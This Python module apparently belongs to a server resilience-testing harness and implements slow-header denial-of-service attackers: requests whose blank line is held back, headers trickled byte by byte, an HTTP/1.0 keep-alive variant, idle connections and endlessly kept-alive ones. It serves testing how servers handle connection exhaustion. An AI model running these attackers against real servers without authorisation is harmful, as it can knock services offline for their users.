"""Attackers whose headers never end."""

from __future__ import annotations

import asyncio
from collections.abc import Iterator
from itertools import chain, count

from attacks.attackers.base import AttackContext, Attacker, request
from attacks.connection import CLOSED, RawConnection


class UnfinishedHeaders(Attacker):
    """Sends most of a request at once, and then a header now and then."""

    name = "headers: unfinished"

    async def attack(
        self, connection: RawConnection, context: AttackContext, number: int
    ) -> str:
        """Keep the empty line back."""
        connection.send(request(context, "GET", "/api/")[:-2])
        return await connection.trickle(_headers(), pace=1)


class TrickledHeaders(Attacker):
    """Sends a request byte by byte from its beginning."""

    name = "headers: byte by byte"

    async def attack(
        self, connection: RawConnection, context: AttackContext, number: int
    ) -> str:
        """Send two bytes a second."""
        start = request(context, "GET", "/api/")[:-2]
        bytes_of_it = (bytes([byte]) for byte in start)
        return await connection.trickle(chain(bytes_of_it, _headers()), pace=0.5)


class OldVersion(Attacker):
    """Speaks HTTP/1.0, whose requests some servers read in another way."""

    name = "headers: unfinished, HTTP/1.0"

    async def attack(
        self, connection: RawConnection, context: AttackContext, number: int
    ) -> str:
        """Keep the empty line back."""
        start = request(
            context, "POST", "/sign-in", "Connection: keep-alive", version="1.0"
        )
        connection.send(start[:-2])
        return await connection.trickle(_headers(), pace=1)


class Idle(Attacker):
    """Connects and never says anything."""

    name = "idle connections"

    async def attack(
        self, connection: RawConnection, context: AttackContext, number: int
    ) -> str:
        """Wait until the server hangs up."""
        return await connection.outcome()


class KeptAlive(Attacker):
    """Has a request answered now and then over a connection that is never closed."""

    name = "kept connections"

    async def attack(
        self, connection: RawConnection, context: AttackContext, number: int
    ) -> str:
        """Ask for something cheap every two seconds."""
        connection.send(request(context, "GET", "/livez"))
        while await connection.read(4096):
            await asyncio.sleep(2)
            connection.send(request(context, "GET", "/livez"))
        return CLOSED


def _headers() -> Iterator[bytes]:
    return (b"X-%d: x\r\n" % number for number in count())


ATTACKER_TYPES: tuple[Attacker, ...] = (
    UnfinishedHeaders(),
    TrickledHeaders(),
    OldVersion(),
    Idle(),
    KeptAlive(),
)
